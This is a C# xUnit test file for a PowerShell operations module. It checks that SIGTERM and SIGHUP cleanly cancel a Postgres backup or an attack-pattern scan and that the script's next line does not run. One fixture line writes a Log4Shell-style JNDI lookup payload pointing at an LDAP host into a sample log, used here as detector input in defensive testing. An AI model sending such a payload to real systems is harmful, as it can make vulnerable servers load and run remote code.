using System.Diagnostics;
using OpsModule.Engine.Access;
using OpsModule.Engine.Changes;
using OpsModule.Engine.Environments;
using OpsModule.Engine.Tests.Fixtures;
using OpsModule.Foundations.Reporting;

namespace OpsModule.Cmdlets.Tests.Running;

/// <summary>
/// SIGTERM, as schedulers and <c>docker stop</c> send it, in a real pwsh: what runs is cancelled and cleans up, the script's next line does not run.
/// </summary>
[Collection(PostgresCollection.Name)]
public sealed class SignalTests(PostgresFixture postgres) : IDisposable
{
    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("TERM", 143)]
    [InlineData("HUP", 129)]
    public async Task A_backup_that_is_ended_is_cancelled_and_leaves_nothing(string signal, int exitCode)
    {
        DatabaseSettings database = await postgres.CreateDatabaseAsync();
        await postgres.ExecuteAsync(database.Database, "CREATE TABLE held (i int)");
        await using Npgsql.NpgsqlConnection holder = await postgres.OpenAsync(database.Database);
        await using Npgsql.NpgsqlTransaction holding = await holder.BeginTransactionAsync();
        await using (var hold = new Npgsql.NpgsqlCommand("LOCK TABLE held IN ACCESS EXCLUSIVE MODE", holder)) await hold.ExecuteNonQueryAsync();
        Write("ops.yaml", $$"""
            environment: shop
            databases: { main: { host: 127.0.0.1, port: {{postgres.Port}}, name: {{database.Database}}, user: postgres, password: "env:OPS_TEST_PASSWORD" } }
            backups: { stores: { local: { path: store } } }
            """);
        Directory.CreateDirectory(_folder["store"]);
        ProcessStartInfo start = PwshProcess.Of("Backup-OpsDatabase; Set-Content next x", _folder.Path);
        start.Environment["OPS_TEST_PASSWORD"] = PostgresFixture.Password;
        using Process process = Process.Start(start)!;
        // The dump waits for the table.
        await WaitAsync(process, async () => await postgres.ScalarAsync<long>(database.Database, "SELECT count(*) FROM pg_locks WHERE NOT granted") > 0);
        await EndAsync(process, signal);
        Assert.Equal(exitCode, process.ExitCode);
        Assert.False(File.Exists(_folder["next"]));
        OpsContext context = OpsContextFactory.Create(EnvironmentLocator.Resolve(_folder.Path, _folder.Path, SilentReporter.Instance), SilentReporter.Instance);
        Assert.Empty(context.Journal.FindUnfinished());
        Assert.Empty(Directory.GetFiles(_folder["store"], "*", SearchOption.AllDirectories));
        await holding.RollbackAsync();
        Assert.Equal(0, await postgres.ScalarAsync<long>(database.Database, "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND application_name LIKE '%dump%'"));
    }

    [Theory]
    [InlineData("Find-OpsAttackPattern -Path a.log -Baseline b.json -Follow | ForEach-Object { Set-Content begun x; Start-Sleep 600 }")]
    [InlineData("Find-OpsAttackPattern -Path a.log -Baseline b.json -Follow | ForEach-Object { Set-Content begun x; $_ } | Export-OpsReport r.html")]
    [InlineData("Find-OpsAttackPattern -Path a.log -Baseline b.json -Follow | ForEach-Object { Set-Content begun x; $_ } | Assert-OpsResult | Export-OpsReport r.html")]
    [InlineData("try { Find-OpsAttackPattern -Path a.log -Baseline b.json -Follow | ForEach-Object { Set-Content begun x } } finally { Set-Content next x }")]
    public async Task Whoever_else_is_in_the_pipeline_the_next_line_does_not_run(string pipeline)
    {
        Write("a.log", "GET /?x=${jndi:ldap://203.0.113.9/a}\n");
        using Process process = Process.Start(PwshProcess.Of(pipeline + "; Set-Content next x", _folder.Path))!;
        await WaitAsync(process, () => Task.FromResult(File.Exists(_folder["begun"])));
        await EndAsync(process, "TERM");
        Assert.Equal(143, process.ExitCode);
        Assert.False(File.Exists(_folder["next"]));
        Assert.False(File.Exists(_folder["r.html"]));
    }

    private void Write(string name, string text) => File.WriteAllText(_folder[name], text);

    private static async Task WaitAsync(Process process, Func<Task<bool>> condition)
    {
        for (int i = 0; !await condition(); i++)
        {
            if (process.HasExited) Assert.Fail("it ended before: " + await process.StandardError.ReadToEndAsync());
            Assert.True(i < 1200, "it did not begin");
            await Task.Delay(100);
        }
    }

    private static async Task EndAsync(Process process, string signal)
    {
        await Process.Start("kill", ["-" + signal, process.Id.ToString()]).WaitForExitAsync();
        using var limit = new CancellationTokenSource(TimeSpan.FromMinutes(5));
        await process.WaitForExitAsync(limit.Token);
    }
}
